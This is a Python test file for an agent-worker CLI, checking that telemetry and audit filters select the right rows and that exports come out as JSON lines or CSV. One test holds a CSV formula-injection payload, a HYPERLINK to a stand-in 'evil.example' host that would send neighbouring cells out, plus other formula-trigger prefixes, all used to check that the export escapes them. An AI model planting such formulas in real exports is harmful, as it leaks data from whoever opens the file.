"""`agentworker telemetry` and `audit`: each filter selects exactly the rows it
names, alone and together, and the CLI prints and exports what was selected."""

from __future__ import annotations

import contextlib
import csv
import json
import sqlite3
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from worker.cli.main import main
from worker.core import telemetry_query as tq
from worker.core.ledger import State
from worker.core.telemetry import COLUMNS, Telemetry
from worker.errors import WorkerError
from worker.wire.proto import agentworker_pb2 as pb

T0 = 1_790_000_000_000
MIN = 60_000

# id, plan, agent, surface.action, status, error code, started
ROWS = [
    ("i1", "p1", "a1", "workerHost.fs_stat", "ok", "", T0),
    ("i2", "p1", "a2", "workerHost.fs_read", "error", "not_found", T0 + MIN),
    ("i3", "p2", "a1", "workerHost.exec", "error", "scope_required", T0 + 2 * MIN),
    ("i4", "p2", "a1", "workerDiag.probe", "ok", "", T0 + 3 * MIN),
    ("i5", "", "a2", "workerHost.fs_stat", "error", "scope_required", T0 + 4 * MIN),
    ("i6", "p1", "a1", "workbenchHost.fs_stat", "ok", "", T0 + 5 * MIN),
]


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A data dir whose state.db holds ROWS and three audit events."""
    monkeypatch.setenv("AGENTWORKER_HOME", str(tmp_path))
    state = State(tmp_path / "state.db")
    telemetry = Telemetry(state.connection)
    rows = [
        pb.Invocation(
            invocation_id=iid,
            correlation_id=f"c-{iid}",
            plan_id=plan,
            agent_id=agent,
            surface=name.split(".")[0],
            action=name.split(".")[1],
            status=status,
            error_code=code,
            started_unix_ms=started,
            args_preview='{"path": "."}',
        )
        for iid, plan, agent, name, status, code, started in ROWS
    ]
    telemetry.record_many(rows[:3], server="A")  # server A sent i1-i3, B i4-i6
    telemetry.record_many(rows[3:], server="B")
    telemetry.server = lambda: "A"  # audit events: the server served when written
    telemetry.audit("kill", plan_id="p1", detail={"reason": "r", "by": "cli"})
    telemetry.audit(
        "scope_required",
        correlation_id="c-i3",
        plan_id="p2",
        agent_id="a1",
        detail={"action": "workerHost.exec"},
    )
    telemetry.server = lambda: "B"
    telemetry.audit(
        "path_not_allowed",
        correlation_id="c-i2",
        plan_id="p1",
        agent_id="a2",
        detail={"action": "workerHost.fs_read"},
    )
    state.close()
    yield tmp_path


def _ids(home: Path, filters: tq.Filters, **kw: int) -> list[str]:
    with tq.reading(home / "state.db") as conn:
        return [
            row["invocation_id"] for _, row in tq.select_rows(conn, tq.INVOCATIONS, filters, **kw)
        ]


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (tq.Filters(), ["i1", "i2", "i3", "i4", "i5", "i6"]),
        (tq.Filters(plan="p1"), ["i1", "i2", "i6"]),
        (tq.Filters(plan=""), ["i5"]),
        (tq.Filters(agent="a2"), ["i2", "i5"]),
        (tq.Filters(action="fs_stat"), ["i1", "i5", "i6"]),
        (tq.Filters(action="workerHost.fs_stat"), ["i1", "i5"]),
        (tq.Filters(action="probe"), ["i4"]),
        (tq.Filters(status="error"), ["i2", "i3", "i5"]),
        (tq.Filters(status="ok"), ["i1", "i4", "i6"]),
        (tq.Filters(error_code="scope_required"), ["i3", "i5"]),
        (tq.Filters(correlation_id="c-i4"), ["i4"]),
        (tq.Filters(since_ms=T0 + 2 * MIN), ["i3", "i4", "i5", "i6"]),
        (tq.Filters(until_ms=T0 + 2 * MIN), ["i1", "i2"]),
        (tq.Filters(since_ms=T0 + MIN, until_ms=T0 + 3 * MIN), ["i2", "i3"]),
        (tq.Filters(plan="p1", status="ok"), ["i1", "i6"]),
        (tq.Filters(agent="a1", action="fs_stat", plan="p1"), ["i1", "i6"]),
        (tq.Filters(plan="p2", error_code="not_found"), []),
        (tq.Filters(plan="nope"), []),
        (tq.Filters(server="A"), ["i1", "i2", "i3"]),
        (tq.Filters(server="B", plan="p1"), ["i6"]),
        (tq.Filters(server="C"), []),
    ],
)
def test_each_filter_selects_exactly_its_rows(
    home: Path, filters: tq.Filters, expected: list[str]
) -> None:
    assert _ids(home, filters) == expected


def test_last_keeps_the_newest_in_time_order(home: Path) -> None:
    assert _ids(home, tq.Filters(), last=2) == ["i5", "i6"]
    assert _ids(home, tq.Filters(plan="p1"), last=2) == ["i2", "i6"]


def test_rows_past_a_rowid_are_the_ones_written_after_it(home: Path) -> None:
    assert _ids(home, tq.Filters(), after_rowid=4) == ["i5", "i6"]


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (tq.Filters(), ["kill", "scope_required", "path_not_allowed"]),
        (tq.Filters(plan="p1"), ["kill", "path_not_allowed"]),
        (tq.Filters(agent="a1"), ["scope_required"]),
        (tq.Filters(kind="kill"), ["kill"]),
        (tq.Filters(action="exec"), ["scope_required"]),
        (tq.Filters(action="workerHost.fs_read"), ["path_not_allowed"]),
        (tq.Filters(correlation_id="c-i2"), ["path_not_allowed"]),
        (tq.Filters(server="A"), ["kill", "scope_required"]),
        (tq.Filters(server="B", plan="p1"), ["path_not_allowed"]),
    ],
)
def test_audit_filters_select_exactly_their_events(
    home: Path, filters: tq.Filters, expected: list[str]
) -> None:
    with tq.reading(home / "state.db") as conn:
        kinds = [row["kind"] for _, row in tq.select_rows(conn, tq.AUDIT, filters)]
    assert kinds == expected


def test_times_are_read_as_spans_ago_or_iso() -> None:
    now = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
    assert tq.moment_ms("15m", now) == int(now.timestamp() * 1000) - 15 * MIN
    assert tq.moment_ms("2d", now) == int(now.timestamp() * 1000) - 2 * 24 * 60 * MIN
    iso = "2026-11-23T10:00:00+00:00"
    assert tq.moment_ms(iso) == int(datetime.fromisoformat(iso).timestamp() * 1000)
    with pytest.raises(WorkerError, match="not a time"):
        tq.moment_ms("yesterday")


def _cli(capsys: pytest.CaptureFixture[str], *argv: str) -> list[dict[str, object]]:
    assert main(list(argv)) == 0
    return [json.loads(line) for line in capsys.readouterr().out.splitlines()]


def test_the_query_command_applies_its_filters(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _cli(capsys, "telemetry", "query", "--plan", "p1", "--status", "error", "--json")
    assert [r["invocation_id"] for r in rows] == ["i2"]
    rows = _cli(capsys, "telemetry", "query", "--error-code", "scope_required", "--json")
    assert [r["invocation_id"] for r in rows] == ["i3", "i5"]
    since = datetime.fromtimestamp((T0 + 4 * MIN) / 1000, UTC).isoformat()
    rows = _cli(capsys, "telemetry", "query", "--since", since, "--json")
    assert [r["invocation_id"] for r in rows] == ["i5", "i6"]
    rows = _cli(capsys, "telemetry", "tail", "-n", "1", "--action", "fs_read", "--json")
    assert [r["invocation_id"] for r in rows] == ["i2"]
    rows = _cli(capsys, "telemetry", "query", "--plan", "p1", "--server-key", "B", "--json")
    assert [(r["invocation_id"], r["server"]) for r in rows] == [("i6", "B")]


def test_the_audit_command_applies_its_filters(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _cli(capsys, "audit", "query", "--plan", "p1", "--json")
    assert [r["kind"] for r in rows] == ["kill", "path_not_allowed"]
    assert rows[0]["detail"] == {"reason": "r", "by": "cli"}
    rows = _cli(capsys, "audit", "query", "--plan", "p1", "--server-key", "A", "--json")
    assert [(r["kind"], r["server"]) for r in rows] == [("kill", "A")]


def test_a_state_db_from_before_the_server_column_reads_as_unrecorded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A reader converts nothing (the worker does, at its start): rows of tables from
    before the column are every one of an unknown server."""
    monkeypatch.setenv("AGENTWORKER_HOME", str(tmp_path))
    with contextlib.closing(sqlite3.connect(tmp_path / "state.db")) as db:
        db.execute(f"CREATE TABLE invocations ({', '.join(COLUMNS)})")
        db.execute(f"CREATE TABLE audit_events ({', '.join(tq.AUDIT_COLUMNS[:-1])})")
        db.execute(
            "INSERT INTO invocations (invocation_id, plan_id, truncated, sandboxed)"
            " VALUES ('i1', 'p1', 0, 0)"
        )
        db.execute("INSERT INTO audit_events (kind, plan_id, unix_ms) VALUES ('kill', 'p1', 1)")
        db.commit()
    rows = _cli(capsys, "telemetry", "query", "--server-key", "unrecorded", "--json")
    assert [(r["invocation_id"], r["server"]) for r in rows] == [("i1", "unrecorded")]
    assert _cli(capsys, "telemetry", "query", "--server-key", "A", "--json") == []
    rows = _cli(capsys, "audit", "query", "--plan", "p1", "--json")
    assert [(r["kind"], r["server"]) for r in rows] == [("kill", "unrecorded")]


def test_export_writes_json_lines_or_csv(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "rows.csv"
    assert main(["telemetry", "export", "--agent", "a1", "--format", "csv", "-o", str(out)]) == 0
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["invocation_id"] for r in rows] == ["i1", "i3", "i4", "i6"]
    assert rows[0]["truncated"] == "false" and rows[0]["plan_id"] == "p1"
    lines = _cli(capsys, "telemetry", "export", "--agent", "a2")
    assert [r["invocation_id"] for r in lines] == ["i2", "i5"]


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A plan id is the server's to choose (review25 G13: =HYPERLINK(...) sent the rows
    beside it away when the person opened the export)."""
    monkeypatch.setenv("AGENTWORKER_HOME", str(tmp_path))
    state = State(tmp_path / "state.db")
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"details")'
    plans = [
        formula,
        "+1",
        "-2",
        "@SUM(A1)",
        "\tx",
        " =1+1",
        "\n\r@A1",
        "\uff1d1",
        " plain",
        "plain",
    ]
    Telemetry(state.connection).record_many(
        [
            pb.Invocation(
                invocation_id=f"i{n}", plan_id=plan, surface="workerHost", action="fs_stat"
            )
            for n, plan in enumerate(plans)
        ],
        server="A",
    )
    state.close()
    out = tmp_path / "rows.csv"
    assert main(["telemetry", "export", "--format", "csv", "-o", str(out)]) == 0
    with out.open(newline="") as f:
        shown = [row["plan_id"] for row in csv.DictReader(f)]
    assert shown == ["'" + plan for plan in plans[:-2]] + [" plain", "plain"]


def test_the_human_listing_has_one_line_per_row(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["telemetry", "query", "--plan", "p2"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2
    assert "workerHost.exec" in lines[0] and "error scope_required" in lines[0]
    assert "workerDiag.probe" in lines[1] and "plan=p2" in lines[1]
